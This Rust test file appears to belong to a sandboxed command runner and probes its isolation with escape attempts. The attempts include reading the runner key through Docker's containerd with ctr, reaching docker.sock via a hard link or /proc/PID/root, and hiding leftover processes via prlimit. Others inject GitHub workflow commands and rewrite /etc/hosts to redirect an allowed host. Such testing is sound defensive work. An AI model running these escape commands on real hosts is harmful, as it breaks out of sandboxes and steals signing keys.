//! Attacks on the child's reach: daemon sockets reached by a
//! path the reach computation does not know, so the receipt claims the key
//! out of the child's reach and `verify` says VERIFIED_DONE.

use std::os::unix::fs::MetadataExt;
use std::path::Path;

use crate::support::*;

const DOCKER_SOCK: &str = "/var/run/docker.sock";
/// Docker's own containerd (dockerd starts it when no system containerd
/// runs): not /run/containerd/containerd.sock, which DAEMON_SOCKETS lists.
const DOCKER_CONTAINERD_SOCK: &str = "/run/docker/containerd/containerd.sock";

/// Prints `CONNECTED <path>` for each unix socket path the child can
/// connect(2) to.
fn connect_probe(paths: &[&str]) -> String {
    format!(
        "python3 -c \"import socket,sys\nfor p in sys.argv[1:]:\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect(p); print('CONNECTED',p)\n  except Exception as e: print('FAIL',p,e)\" {}; exit 0",
        paths.join(" ")
    )
}

fn assert_receipt_admits_reach(e: &Env, r: &Run, what: &str) {
    let receipt = e.path("attack-r.json");
    std::fs::write(&receipt, &r.stdout).expect("save");
    let o = output(e.verify_strict_cmd(&receipt, &e.runner_pub()));
    let v = String::from_utf8_lossy(&o.stdout);
    assert_eq!(
        r.predicate()["signing"]["key_out_of_child_reach"],
        false,
        "{what}, yet the receipt says the key was out of its reach: reach {} / verify {v}",
        r.predicate()["isolation"]["reach"]
    );
    assert_eq!(r.predicate()["cleanup"]["evadable"], true, "{what}");
    assert_eq!(v.lines().next(), Some("NOT_VERIFIED"), "{what}: {v}");
}

/// An isolated uid-0 child (`--no-network --pid-namespace
/// --fs-write-scope`, so CAP_DAC_OVERRIDE and a mount namespace) connects
/// to Docker's containerd under /run/docker/containerd, which no cover and
/// no reach entry knows of.
#[test]
fn an_isolated_root_child_reaches_dockers_own_containerd_socket() {
    if !is_root() {
        skip!("an_isolated_root_child_reaches_dockers_own_containerd_socket: needs root");
        return;
    }
    if !Path::new(DOCKER_CONTAINERD_SOCK).exists() {
        skip!("an_isolated_root_child_reaches_dockers_own_containerd_socket: no {DOCKER_CONTAINERD_SOCK}");
        return;
    }
    let e = Env::new();
    let script = connect_probe(&[DOCKER_CONTAINERD_SOCK]);
    let probe = ["sh", "-c", script.as_str()];
    e.approve(
        &["--no-network", "--pid-namespace", "--fs-write-scope"],
        &probe,
    );
    let r = e.run(&[], &probe);
    assert_eq!(r.class(), "exited", "{}", r.stderr);
    if r.stdout_text().contains("CONNECTED") {
        assert_receipt_admits_reach(&e, &r, "the child connected to Docker's containerd");
    }
}

/// The same hole, used: with `ctr` on the host the isolated uid-0 child
/// starts a container through Docker's containerd that bind-mounts the
/// runner's state dir and prints the runner key.
#[test]
fn an_isolated_root_child_reads_the_runner_key_through_dockers_containerd() {
    if !is_root() {
        skip!("an_isolated_root_child_reads_the_runner_key_through_dockers_containerd: needs root");
        return;
    }
    let have_ctr = std::process::Command::new("ctr")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !Path::new(DOCKER_CONTAINERD_SOCK).exists()
        || !have_ctr
        || !Path::new("/bin/busybox").exists()
    {
        skip!("an_isolated_root_child_reads_the_runner_key_through_dockers_containerd: needs {DOCKER_CONTAINERD_SOCK}, ctr and /bin/busybox");
        return;
    }
    let e = Env::new();
    let id = format!("ge-attack-{}", std::process::id());
    let script = format!(
        "mkdir -p rfs/bin && cp /bin/busybox rfs/bin/ && ctr --address {sock} -n ge-attack run --rm --fifo-dir \"$TMPDIR\" --label governed-exec-attack=1 --mount type=bind,src={state},dst=/st,options=rbind:ro --rootfs \"$PWD/rfs\" {id} /bin/busybox cat /st/runner.key; exit 0",
        sock = DOCKER_CONTAINERD_SOCK,
        state = e.state.display(),
    );
    let probe = ["sh", "-c", script.as_str()];
    e.approve(
        &["--no-network", "--pid-namespace", "--fs-write-scope"],
        &probe,
    );
    let r = e.run(&[], &probe);
    // Leave nothing behind if the container outlived `--rm`.
    let _ = std::process::Command::new("ctr")
        .args(["--address", DOCKER_CONTAINERD_SOCK, "-n", "ge-attack"])
        .args(["containers", "rm", &id])
        .output();
    let _ = std::process::Command::new("ctr")
        .args(["--address", DOCKER_CONTAINERD_SOCK])
        .args(["namespaces", "rm", "ge-attack"])
        .output();
    assert_eq!(r.class(), "exited", "{}", r.stderr);
    let key = std::fs::read_to_string(e.state.join("runner.key")).expect("runner key");
    if r.stdout_text().contains(key.trim()) {
        assert_receipt_admits_reach(&e, &r, "the child printed the runner key");
    }
}

/// A second name (hard link) of the Docker socket on the same filesystem:
/// the covers are per path and the reach computation does not look at the
/// socket's link count, as it does for the key's.
#[test]
fn a_hard_link_to_the_docker_socket_is_not_covered() {
    if !is_root() {
        skip!("a_hard_link_to_the_docker_socket_is_not_covered: needs root");
        return;
    }
    let Ok(sock) = Path::new(DOCKER_SOCK).canonicalize() else {
        skip!("a_hard_link_to_the_docker_socket_is_not_covered: no {DOCKER_SOCK}");
        return;
    };
    let e = Env::new();
    let link = e.path("d.sock");
    let same_fs = std::fs::metadata(&sock).map(|m| m.dev()).ok()
        == std::fs::metadata(e.dir.path()).map(|m| m.dev()).ok();
    if !same_fs || std::fs::hard_link(&sock, &link).is_err() {
        skip!("a_hard_link_to_the_docker_socket_is_not_covered: the temp dir is not on the socket's filesystem");
        return;
    }
    let l = link.to_str().expect("utf8");
    let script = connect_probe(&[l]);
    let probe = ["sh", "-c", script.as_str()];
    e.approve(
        &["--no-network", "--pid-namespace", "--fs-write-scope"],
        &probe,
    );
    let r = e.run(&[], &probe);
    let _ = std::fs::remove_file(&link);
    assert_eq!(r.class(), "exited", "{}", r.stderr);
    if r.stdout_text().contains("CONNECTED") {
        assert_receipt_admits_reach(&e, &r, "the child connected to dockerd through a hard link");
    }
}

/// The child lowers the runner's RLIMIT_NOFILE with prlimit(2) (same uid,
/// or uid 0 for a root child: no capability needed, and neither Landlock's
/// signal scope nor the non-dumpable runner stops it), then leaves a
/// process behind in its own session. The runner can open neither the
/// cgroup files nor /proc/PID/task/*/children, and signs `cleanup.state:
/// gone`, `no_leftover_processes` met, `evadable: false`.
fn prlimit_then_leave_a_process(e: &Env) -> String {
    let pidfile = e.ws.join("left.pid");
    format!(
        "prlimit --pid $PPID --nofile=4:4; setsid sh -c 'echo $$ > {p}; exec sleep 300' </dev/null >/dev/null 2>&1 & sleep 0.3; exit 0",
        p = pidfile.display()
    )
}

const CLEANUP_GOAL: &str = r#"{ "schema": "governed-exec/goal/v1", "id": "t", "revision": 1,
  "criteria": [ { "kind": "exit_code", "equals": 0 }, { "kind": "no_leftover_processes" } ] }"#;

fn assert_leftover_not_hidden(e: &Env, o: &std::process::Output) {
    let left = e.ws.join("left.pid");
    let pid: i32 = std::fs::read_to_string(&left)
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(0);
    let alive = pid > 0 && pid_alive(pid);
    if alive {
        let _ = std::process::Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
    if !alive || o.stdout.is_empty() {
        return;
    }
    let r = finish_run(o.clone());
    let receipt = e.path("attack-r.json");
    std::fs::write(&receipt, &r.stdout).expect("save");
    let v = output(e.verify_strict_cmd(&receipt, &e.runner_pub()));
    let v = String::from_utf8_lossy(&v.stdout).to_string();
    assert_ne!(
        v.lines().next(),
        Some("VERIFIED_DONE"),
        "pid {pid} was left running, yet verify accepts no_leftover_processes: cleanup {} / stderr {}",
        r.predicate()["cleanup"],
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn an_isolated_root_child_prlimits_the_runner_and_hides_a_leftover_process() {
    if !is_root() {
        skip!(
            "an_isolated_root_child_prlimits_the_runner_and_hides_a_leftover_process: needs root"
        );
        return;
    }
    let e = Env::new();
    e.set_goal(CLEANUP_GOAL);
    let script = prlimit_then_leave_a_process(&e);
    let probe = ["sh", "-c", script.as_str()];
    e.approve(&["--fs-write-scope"], &probe);
    let o = output(e.run_cmd(&[], &probe));
    assert_leftover_not_hidden(&e, &o);
}

#[test]
fn a_same_uid_child_prlimits_a_non_root_runner_and_hides_a_leftover_process() {
    if !is_root() {
        skip!("a_same_uid_child_prlimits_a_non_root_runner…: needs root for setpriv");
        return;
    }
    let e = Env::new();
    e.set_goal(CLEANUP_GOAL);
    let script = prlimit_then_leave_a_process(&e);
    let probe = ["sh", "-c", script.as_str()];
    e.approve(&["--fs-write-scope"], &probe);
    let bin = nobody_copy_of_binary(&e);
    let inner = e.run_cmd(&[], &probe);
    let mut c = as_nobody(&bin, &inner);
    c.env("HOME", e.dir.path());
    let o = output_settled(c);
    if String::from_utf8_lossy(&o.stderr).contains("isolation_unavailable") {
        skip!(
            "a_same_uid_child_prlimits_a_non_root_runner…: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        return;
    }
    assert_leftover_not_hidden(&e, &o);
}

/// `--stream` under GitHub Actions fences the child's bytes with
/// `::stop-commands::TOKEN` … `::TOKEN::`, but the runner drops the fence
/// once DRAIN_BOUND passes, while a drain thread still mirrors a pipe held
/// by a process that outlived the run (here one the prlimit attack left
/// behind): its `::error::` lines after `::TOKEN::` are workflow commands.
#[test]
fn a_leftover_process_writes_workflow_commands_after_the_stream_fence() {
    if !is_root() {
        skip!("a_leftover_process_writes_workflow_commands_after_the_stream_fence: needs root");
        return;
    }
    let e = Env::new();
    let pidfile = e.ws.join("left.pid");
    let script = format!(
        "prlimit --pid $PPID --nofile=5:5; setsid sh -c 'echo $$ > {p}; while :; do echo ::error::INJECTED; sleep 0.01; done' & exit 0",
        p = pidfile.display()
    );
    let probe = ["sh", "-c", script.as_str()];
    e.approve(&["--fs-write-scope"], &probe);
    let mut c = e.run_cmd(&["--stream"], &probe);
    c.env("GITHUB_ACTIONS", "true");
    let o = output(c);
    let pid: i32 = std::fs::read_to_string(&pidfile)
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(0);
    if pid > 0 {
        let _ = std::process::Command::new("kill")
            .args(["-KILL", &pid.to_string()])
            .status();
    }
    let err = String::from_utf8_lossy(&o.stderr);
    let resumed = err
        .lines()
        .position(|l| l.starts_with("::governed-exec-") && l.ends_with("::"));
    let after = resumed.map_or(0, |i| {
        err.lines()
            .skip(i + 1)
            .filter(|l| l.contains("::error::INJECTED"))
            .count()
    });
    assert_eq!(
        after, 0,
        "{after} child lines reached the log after the fence was lifted"
    );
}

/// `--allow-net NAME:443` and a uid-0 child (isolation through the lease's
/// network option: CAP_DAC_OVERRIDE, no write scope): the proxy reads the
/// runner's /etc/hosts at every CONNECT, and the child may write it, so
/// the child picks the address behind the approved name. The receipt then
/// records an allowed connection to the listed entry, at an address the
/// child chose.
#[test]
fn an_isolated_root_child_chooses_the_address_behind_an_allowed_name() {
    if !is_root() {
        skip!("an_isolated_root_child_chooses_the_address_behind_an_allowed_name: needs root");
        return;
    }
    let name = format!("ge-attack-{}.invalid", std::process::id());
    let line = format!("203.0.113.9 {name}");
    let script = format!(
        "echo '{line}' >> /etc/hosts; curl -s -m 5 -x \"$HTTPS_PROXY\" https://{name}/ -o /dev/null; exit 0"
    );
    let probe = ["sh", "-c", script.as_str()];
    let e = Env::new();
    let allow = format!("{name}:443");
    e.approve(&["--allow-net", &allow], &probe);
    let r = e.run(&[], &probe);
    // Put /etc/hosts back as it was: drop the planted line only.
    if let Ok(hosts) = std::fs::read_to_string("/etc/hosts") {
        if hosts.contains(&line) {
            let kept: String = hosts
                .lines()
                .filter(|l| *l != line)
                .map(|l| format!("{l}\n"))
                .collect();
            let _ = std::fs::write("/etc/hosts", kept);
        }
    }
    if r.reason() == "isolation_unavailable" {
        skip!(
            "an_isolated_root_child_chooses_the_address_behind_an_allowed_name: {}",
            r.stderr
        );
        return;
    }
    let dialled: Vec<String> = r.predicate()["network"]["connections"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|c| c["address"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    assert!(
        !dialled.iter().any(|a| a == "203.0.113.9"),
        "the proxy dialled the address the child wrote into /etc/hosts: {}",
        r.predicate()["network"]
    );
}

/// Root runner, `--as-user 65534:<docker gid> --no-network`: the child gets
/// a mount namespace where the Docker socket is covered, but no Landlock
/// guard and no fresh /proc. Any host process of the same uid and gid (here
/// one the test starts, standing for a CI agent's own processes) is
/// ptrace-readable by the child, and `/proc/PID/root` resolves in the
/// host's mount namespace, past every cover.
#[test]
fn an_as_user_child_reaches_docker_through_a_host_process_root() {
    if !is_root() {
        skip!("an_as_user_child_reaches_docker_through_a_host_process_root: needs root");
        return;
    }
    let Ok(meta) = std::fs::metadata(DOCKER_SOCK) else {
        skip!("an_as_user_child_reaches_docker_through_a_host_process_root: no {DOCKER_SOCK}");
        return;
    };
    let gid = meta.gid().to_string();
    let Ok(mut host) = std::process::Command::new("setpriv")
        .args([
            "--reuid",
            "65534",
            "--regid",
            &gid,
            "--clear-groups",
            "sleep",
            "60",
        ])
        .spawn()
    else {
        skip!("an_as_user_child_reaches_docker_through_a_host_process_root: no setpriv");
        return;
    };
    std::thread::sleep(std::time::Duration::from_millis(300));
    let sock = format!("/proc/{}/root/run/docker.sock", host.id());
    let script = format!(
        "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{sock}'); s.sendall(b'GET /_ping HTTP/1.0\\r\\n\\r\\n'); print('DAEMON-ANSWERED' if b'200' in s.recv(64) else 'NO')\" 2>&1; exit 0"
    );
    let probe = ["sh", "-c", script.as_str()];
    let e = Env::new();
    let as_user = format!("65534:{gid}");
    e.approve(&["--as-user", &as_user, "--no-network"], &probe);
    let r = e.run(&[], &probe);
    let _ = host.kill();
    let _ = host.wait();
    assert_eq!(r.class(), "exited", "{}", r.stderr);
    if r.stdout_text().contains("DAEMON-ANSWERED") {
        assert_receipt_admits_reach(&e, &r, "the child reached dockerd through /proc/PID/root");
    }
}

/// Under the seccomp form of `--no-network` (no network namespace could be
/// made: here a root runner without CAP_SYS_ADMIN behind Docker's default
/// answers, running the child as uid 65534, so no Landlock guard is built)
/// the child shares the host's network namespace, and AF_UNIX is open to
/// it: a listener on an abstract unix socket on the host (a local proxy, a
/// daemon's side channel) would be its way out. Landlock's abstract unix
/// socket scope (ABI 6) must close it whenever that mechanism is used; where
/// the kernel lacks it, the receipt's boundary must say so.
#[test]
fn the_seccomp_form_of_no_network_leaves_no_abstract_unix_socket_to_the_host() {
    use std::io::Read as _;
    use std::os::linux::net::SocketAddrExt as _;
    use std::os::unix::net::{SocketAddr, UnixListener};
    let test = "the_seccomp_form_of_no_network_leaves_no_abstract_unix_socket_to_the_host";
    if !is_root() {
        skip!("{test}: needs root to drop CAP_SYS_ADMIN and run the child as uid 65534");
        return;
    }
    require_tool!(test, "python3");
    require_tool!(test, "setpriv");
    let e = Env::new();
    std::fs::set_permissions(
        e.dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .expect("chmod");
    std::fs::set_permissions(&e.ws, std::os::unix::fs::PermissionsExt::from_mode(0o777))
        .expect("chmod");
    let name = format!("governed-exec-test-{}", std::process::id());
    let listener = UnixListener::bind_addr(
        &SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract name"),
    )
    .expect("bind an abstract unix socket");
    listener.set_nonblocking(true).expect("nonblocking");
    let script = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\ntry:\n  s.connect('\\0{name}'); s.sendall(b'LEAKED'); print('CONNECTED')\nexcept OSError as x:\n  print('REFUSED', x.errno)\n"
    );
    let probe = ["python3", "-c", script.as_str()];
    e.approve(&["--as-user", "65534", "--no-network"], &probe);
    let inner = e.run_cmd(&[], &probe);
    let mut c = std::process::Command::new("python3");
    c.arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sim/seccomp-exec.py"))
        .arg("clone3=ENOSYS,unshare=EPERM")
        .args(["--", "setpriv", "--bounding-set", "-sys_admin", "--"])
        .arg(inner.get_program())
        .args(inner.get_args())
        .stdin(std::process::Stdio::null());
    let r = finish_run(output(&mut c));
    assert_eq!((r.code, r.class()), (0, "exited"), "{}", r.stderr);
    let iso = &r.predicate()["isolation"];
    assert_eq!(iso["network_mechanism"], "seccomp_socket_families", "{iso}");
    let boundary = iso["boundary"].as_str().unwrap_or("");
    let out = r.stdout_text();
    let mut leaked = Vec::new();
    if let Ok((mut s, _)) = listener.accept() {
        s.set_nonblocking(false).expect("blocking");
        let _ = s.read_to_end(&mut leaked);
    }
    if boundary.contains("lacks Landlock's abstract unix socket scope") {
        // An older kernel: no claim, and the receipt says what is open.
        skip!("{test}: the kernel lacks the Landlock abstract unix socket scope (ABI 6)");
        return;
    }
    assert!(
        !out.contains("CONNECTED") && leaked.is_empty(),
        "the child reached a host abstract unix socket under --no-network ({out}; the listener read {:?}); boundary: {boundary}",
        String::from_utf8_lossy(&leaked)
    );
    assert!(out.contains("REFUSED"), "{out}");
    assert!(
        boundary.contains("abstract unix socket"),
        "the boundary does not say what keeps the child from abstract unix sockets: {boundary}"
    );
}
